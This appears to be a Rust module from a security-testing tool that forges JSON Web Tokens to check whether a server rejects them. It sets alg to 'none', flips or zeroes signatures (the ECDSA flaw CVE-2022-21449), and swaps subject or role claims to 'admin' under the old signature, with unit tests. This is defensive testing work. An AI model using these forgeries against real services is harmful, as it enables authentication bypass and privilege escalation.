//! Surgery on JSON Web Tokens (RFC 7515, RFC 7519) for KM-07. Alters bytes, never base64url text: the last
//! character of a part may hold padding bits alone, and a correct server then accepts the token. Pure.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value};

/// How a token is altered. The words are those of the feature's table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Alteration {
    /// `alg` says that there is no signature (RFC 8725 §3.1): with an empty third part, or without one.
    NoAlgorithm { word: String, third_part: bool },
    /// One bit of byte 0 of the signature is flipped.
    FlippedBit,
    /// Every byte of an ECDSA signature is zero (CVE-2022-21449).
    ZeroSignature,
    /// Subject and identity of the other token, old signature.
    Subject,
    /// Roles of the other token, old signature.
    Role,
}

/// Why a token cannot be altered so.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Unfit {
    /// It is no signed JWT of three parts; a JWE has five.
    NotSigned,
    /// The alteration is for ECDSA signatures.
    NotEcdsa,
}

impl Alteration {
    /// Reads the words of the feature's table.
    pub(crate) fn by_words(words: &str) -> Option<Self> {
        if let Some(rest) = words.strip_prefix("beralgoritma ") {
            let (word, how) = rest.split_once(' ')?;
            let third_part = match how {
                "dengan tanda tangan kosong" => true,
                "tanpa bagian tanda tangan" => false,
                _ => return None,
            };
            return Some(Self::NoAlgorithm {
                word: word.to_owned(),
                third_part,
            });
        }
        match words {
            "satu bit tanda tangannya dibalik" => Some(Self::FlippedBit),
            "bertanda tangan nol semua" => Some(Self::ZeroSignature),
            "pemiliknya diganti pelapor B dengan tanda tangan lama" => Some(Self::Subject),
            "perannya diganti admin dengan tanda tangan lama" => Some(Self::Role),
            _ => None,
        }
    }

    /// Alters a token; `other` is the valid token that another subject or role is taken from.
    pub(crate) fn apply(&self, token: &str, other: &str) -> Result<String, Unfit> {
        let parts = Parts::read(token)?;
        match self {
            Self::NoAlgorithm { word, third_part } => {
                let mut header = parts.header.clone();
                header.insert("alg".to_owned(), Value::String(word.clone()));
                let dot = if *third_part { "." } else { "" };
                Ok(format!(
                    "{}.{}{dot}",
                    encode(&Value::Object(header)),
                    parts.payload_text
                ))
            }
            Self::FlippedBit => {
                let mut signature = parts.signature.clone();
                *signature.first_mut().ok_or(Unfit::NotSigned)? ^= 1;
                Ok(parts.with_signature(&signature))
            }
            Self::ZeroSignature => {
                if !parts
                    .header
                    .get("alg")
                    .and_then(Value::as_str)
                    .is_some_and(|alg| alg.starts_with("ES"))
                {
                    return Err(Unfit::NotEcdsa);
                }
                Ok(parts.with_signature(&vec![0; parts.signature.len()]))
            }
            Self::Subject => Ok(parts.with_claims(&Parts::read(other)?, |claim| !BOUND_CLAIMS.contains(&claim))),
            Self::Role => {
                let other = Parts::read(other)?;
                let role = |claim: &str| !BOUND_CLAIMS.contains(&claim) && !IDENTITY_CLAIMS.contains(&claim);
                Ok(parts.with_claims(&other, role))
            }
        }
    }
}

/// Whether a credential is a JWT in the compact form of RFC 7515 §7.1, whatever the statement says of it. One without a
/// signature is, too: that an application issues such a token is no reason not to look whether it takes another.
pub(crate) fn is_jwt(token: &str) -> bool {
    Parts::read(token).is_ok_and(|parts| parts.header.contains_key("alg"))
}

/// A JWT, taken apart.
struct Parts {
    header: Map<String, Value>,
    header_text: String,
    payload: Map<String, Value>,
    payload_text: String,
    signature: Vec<u8>,
}

impl Parts {
    fn read(token: &str) -> Result<Self, Unfit> {
        let mut parts = token.split('.');
        let (Some(header), Some(payload), Some(signature), None) =
            (parts.next(), parts.next(), parts.next(), parts.next())
        else {
            return Err(Unfit::NotSigned);
        };
        let object = |text: &str| {
            let bytes = URL_SAFE_NO_PAD.decode(text).map_err(|_| Unfit::NotSigned)?;
            serde_json::from_slice::<Map<String, Value>>(&bytes).map_err(|_| Unfit::NotSigned)
        };
        let signature = URL_SAFE_NO_PAD.decode(signature).map_err(|_| Unfit::NotSigned)?;
        Ok(Self {
            header: object(header)?,
            header_text: header.to_owned(),
            payload: object(payload)?,
            payload_text: payload.to_owned(),
            signature,
        })
    }

    fn with_signature(&self, signature: &[u8]) -> String {
        format!(
            "{}.{}.{}",
            self.header_text,
            self.payload_text,
            URL_SAFE_NO_PAD.encode(signature)
        )
    }

    /// Takes claims of another token that `which` names. Where they do not differ (the token carries no role),
    /// the usual claims are added.
    fn with_claims(&self, other: &Self, which: impl Fn(&str) -> bool) -> String {
        let mut payload = self.payload.clone();
        for (claim, value) in other.payload.iter().filter(|(claim, _)| which(claim)) {
            payload.insert(claim.clone(), value.clone());
        }
        if payload == self.payload {
            payload.insert("role".to_owned(), Value::from("admin"));
            payload.insert("peran".to_owned(), Value::from("admin"));
        }
        format!(
            "{}.{}.{}",
            self.header_text,
            encode(&Value::Object(payload)),
            URL_SAFE_NO_PAD.encode(&self.signature)
        )
    }
}

fn encode(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

/// Claims that bind a token to its time, session, issuer and audience (RFC 7519 §4.1); they stay.
const BOUND_CLAIMS: &[&str] = &[
    "iss",
    "aud",
    "exp",
    "nbf",
    "iat",
    "jti",
    "sid",
    "auth_time",
    "nonce",
    "typ",
    "azp",
];

/// Claims that say who the subject is (RFC 7519 §4.1.2, OpenID Connect Core §5.1); a changed role keeps them.
const IDENTITY_CLAIMS: &[&str] = &[
    "sub",
    "name",
    "nama",
    "email",
    "email_verified",
    "phone_number",
    "telepon",
    "username",
    "preferred_username",
    "given_name",
    "family_name",
    "nik",
    "user_id",
    "uid",
    "id",
];

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn token(alg: &str, payload: &Value, signature: &[u8]) -> String {
        let header = encode(&json!({"typ": "JWT", "alg": alg, "kid": "k1"}));
        format!("{header}.{}.{}", encode(payload), URL_SAFE_NO_PAD.encode(signature))
    }

    fn a() -> Value {
        json!({"sub": "a", "peran": "pelapor", "exp": 10})
    }

    fn payload(token: &str) -> Value {
        serde_json::from_slice(&URL_SAFE_NO_PAD.decode(token.split('.').nth(1).unwrap()).unwrap()).unwrap()
    }

    fn altered(words: &str, alg: &str) -> Result<String, Unfit> {
        let own = token(alg, &a(), &[0x80, 1, 2]);
        let other = token(alg, &json!({"sub": "b", "peran": "admin", "exp": 99}), &[9]);
        Alteration::by_words(words).unwrap().apply(&own, &other)
    }

    #[test]
    fn no_algorithm_has_an_empty_or_no_third_part() {
        for word in ["none", "None", "NONE", "nOnE"] {
            let empty = altered(&format!("beralgoritma {word} dengan tanda tangan kosong"), "ES256").unwrap();
            let absent = altered(&format!("beralgoritma {word} tanpa bagian tanda tangan"), "ES256").unwrap();
            assert!(empty.ends_with('.') && empty.split('.').count() == 3);
            assert_eq!(absent.split('.').count(), 2);
            assert_eq!(format!("{absent}."), empty);
            let header = URL_SAFE_NO_PAD.decode(empty.split('.').next().unwrap()).unwrap();
            let expected = json!({"typ": "JWT", "alg": word, "kid": "k1"});
            assert_eq!(serde_json::from_slice::<Value>(&header).unwrap(), expected);
            assert_eq!(payload(&empty), a());
        }
    }

    #[test]
    fn signatures_are_altered_as_bytes() {
        let last = |token: String| URL_SAFE_NO_PAD.decode(token.rsplit('.').next().unwrap()).unwrap();
        assert_eq!(
            last(altered("satu bit tanda tangannya dibalik", "HS256").unwrap()),
            [0x81, 1, 2]
        );
        assert_eq!(last(altered("bertanda tangan nol semua", "ES256").unwrap()), [0, 0, 0]);
        assert_eq!(altered("bertanda tangan nol semua", "HS256"), Err(Unfit::NotEcdsa));
    }

    #[test]
    fn claims_change_and_the_old_signature_stays() {
        let subject = altered("pemiliknya diganti pelapor B dengan tanda tangan lama", "ES256").unwrap();
        assert_eq!(payload(&subject), json!({"sub": "b", "peran": "admin", "exp": 10}));
        let role = altered("perannya diganti admin dengan tanda tangan lama", "ES256").unwrap();
        assert_eq!(payload(&role), json!({"sub": "a", "peran": "admin", "exp": 10}));
        assert!(role.ends_with(&URL_SAFE_NO_PAD.encode([0x80, 1, 2])));
        let same = Alteration::Role
            .apply(&token("ES256", &a(), &[1]), &token("ES256", &a(), &[1]))
            .unwrap();
        assert_eq!(payload(&same)["role"], "admin", "a token without roles is given one");
    }

    #[test]
    fn an_unsigned_token_is_tried_all_the_same() {
        let unsigned = token("none", &a(), &[]);
        assert!(is_jwt(&unsigned) && is_jwt(&token("ES256", &a(), &[1])));
        assert!(
            !is_jwt("opak") && !is_jwt("a.b.c") && !is_jwt("e30.e30.AA"),
            "a JWT names its algorithm"
        );
        let none = Alteration::by_words("beralgoritma none dengan tanda tangan kosong").unwrap();
        assert_eq!(
            none.apply(&unsigned, &unsigned).unwrap(),
            unsigned,
            "what it issues is what it must refuse"
        );
    }

    #[test]
    fn what_is_no_signed_token_is_left_alone() {
        for text in ["", "opak", "a.b", "a.b.c.d.e", "e30.e30.", "e30.e30.!!"] {
            assert_eq!(
                Alteration::FlippedBit.apply(text, text),
                Err(Unfit::NotSigned),
                "{text}"
            );
        }
        assert_eq!(Alteration::by_words("beralgoritma none dengan apa saja"), None);
        assert_eq!(Alteration::by_words("diapakan saja"), None);
    }
}
